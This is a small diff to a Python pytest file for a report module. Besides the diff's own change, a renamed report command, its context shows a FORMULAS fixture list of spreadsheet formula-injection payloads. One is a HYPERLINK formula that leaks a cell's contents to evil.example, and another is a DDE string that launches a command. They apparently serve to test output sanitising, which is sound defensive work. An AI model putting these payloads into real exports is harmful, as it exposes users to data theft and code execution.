@@ -12,6 +12,7 @@ import re
 import pytest
 
 from attribution import archive as ar
+from attribution.commands import archive_report
 from attribution.report import safe
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -45,7 +46,7 @@ def results(tmp_path):
 
 def _report(results, fmt, capsys, tmp_path):
     args = argparse.Namespace(results=str(results), format=fmt, chart=str(tmp_path / "c.png"))
-    assert ar.run_report(args) == 0
+    assert archive_report.run(args) == 0
     return capsys.readouterr()
 
 
